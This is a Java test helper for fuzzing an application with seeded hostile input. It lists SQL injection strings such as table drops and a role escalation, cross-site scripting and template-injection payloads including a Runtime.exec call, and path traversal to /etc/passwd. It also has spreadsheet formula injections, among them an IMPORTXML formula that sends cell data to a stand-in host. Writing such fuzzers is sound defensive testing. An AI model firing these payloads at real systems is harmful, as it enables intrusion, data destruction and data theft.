package org.jiaxing.security;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Seeded generator of hostile input: injection strings, markup, formulas, traversal, control and
 * invisible characters, absurd lengths, random bytes. The same seed gives the same sequence, so a
 * failure names a reproducible case.
 */
final class Hostile {

    static final List<String> SQL = List.of(
            "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE venue; --", "'; DROP TABLE person; --",
            "1; DELETE FROM checkin", "' UNION SELECT name_enc, phone_enc FROM person --", "%' OR '%'='",
            "\\'; SELECT pg_sleep(5); --", "1' AND (SELECT COUNT(*) FROM app_user) > 0 --", "admin'--",
            "' OR ''='", "%", "_", "%%", "\\", "'", "\"", "`", "1 OR 1=1", "'); UPDATE app_user SET role='CITY_ADMIN'; --");

    static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
            "javascript:alert(1)", "<iframe src=//evil.example>", "{{7*7}}", "${7*7}", "[[${7*7}]]",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "</textarea><script>x</script>",
            "<a href=\"javascript:alert(1)\">x</a>", "'-alert(1)-'", "<style>*{display:none}</style>");

    static final List<String> FORMULA = List.of(
            "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://evil/\",A1),\"//a\")");

    static final List<String> TRAVERSAL = List.of(
            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "....//....//etc/passwd", "file:///etc/passwd", "C:\\boot.ini", "\u0000.csv", "a.csv\u0000.exe");

    static final List<String> ODD = List.of(
            "", " ", "\u0000", "\u200b", "\u202e\u0644", "\ufeff", "\r\n", "\n\n\n", "null", "undefined", "NaN",
            "-1", "0", "9223372036854775808", "1e309", "😀", "𠮷野家", "Ａ１２３", "\uD800", "true", "[]", "{}");

    private final Random random;

    Hostile(long seed) {
        this.random = new Random(seed);
    }

    Random random() {
        return random;
    }

    int nextInt(int bound) {
        return random.nextInt(bound);
    }

    boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** One hostile text value from any family, sometimes combined, sometimes very long. */
    String text() {
        return switch (random.nextInt(9)) {
            case 0 -> pick(SQL);
            case 1 -> pick(MARKUP);
            case 2 -> pick(FORMULA);
            case 3 -> pick(TRAVERSAL);
            case 4 -> pick(ODD);
            case 5 -> randomUnicode(1 + random.nextInt(40));
            case 6 -> "x".repeat(200 + random.nextInt(5_000));
            case 7 -> pick(SQL) + pick(MARKUP);
            default -> new String(bytes(1 + random.nextInt(60)), StandardCharsets.ISO_8859_1);
        };
    }

    String randomUnicode(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int codePoint = switch (random.nextInt(5)) {
                case 0 -> random.nextInt(0x20);
                case 1 -> 0x20 + random.nextInt(0x5f);
                case 2 -> 0x4e00 + random.nextInt(0x5000);
                case 3 -> 0x2000 + random.nextInt(0x70);
                default -> random.nextInt(0x10ffff);
            };
            if (Character.isValidCodePoint(codePoint)) {
                text.appendCodePoint(codePoint);
            }
        }
        return text.toString();
    }

    byte[] bytes(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    /** Flips, deletes, inserts or duplicates a few bytes of a genuine input. */
    byte[] mutate(byte[] genuine) {
        byte[] bytes = genuine.clone();
        int edits = 1 + random.nextInt(8);
        for (int e = 0; e < edits && bytes.length > 0; e++) {
            int at = random.nextInt(bytes.length);
            switch (random.nextInt(4)) {
                case 0 -> bytes[at] ^= (byte) (1 << random.nextInt(8));
                case 1 -> bytes[at] = (byte) random.nextInt(256);
                case 2 -> bytes = java.util.Arrays.copyOf(bytes, at);
                default -> {
                    byte[] longer = new byte[bytes.length + 1];
                    System.arraycopy(bytes, 0, longer, 0, at);
                    longer[at] = (byte) random.nextInt(256);
                    System.arraycopy(bytes, at, longer, at + 1, bytes.length - at);
                    bytes = longer;
                }
            }
        }
        return bytes;
    }

    /** JSON string literal of any text, escaped so that the document itself stays well-formed. */
    static String json(String value) {
        if (value == null) {
            return "null";
        }
        StringBuilder out = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    /** CSV cell, quoted the RFC 4180 way. */
    static String csv(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }
}
